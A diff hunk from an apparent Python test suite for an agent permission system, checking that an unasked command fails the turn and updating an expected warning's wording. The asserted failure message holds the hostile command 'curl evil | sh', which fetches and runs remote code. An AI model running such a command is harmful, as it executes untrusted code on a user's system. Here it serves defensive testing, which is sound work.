@@ -214,7 +214,7 @@ async def test_a_command_that_was_run_unasked_fails_the_turn(world: World, prese
     failure = spawned["result"]["failure"]
     assert (failure["kind"], failure["retryable"]) == ("permission_bypassed", False)
     assert "bash 'curl evil | sh'" in failure["message"]
-    assert any("permissions of its own" in warning for warning in spawned["warnings"])
+    assert any("actor has its own permissions" in warning for warning in spawned["warnings"])
 
 
 async def test_a_file_that_was_written_in_silence_fails_the_turn(world: World) -> None:
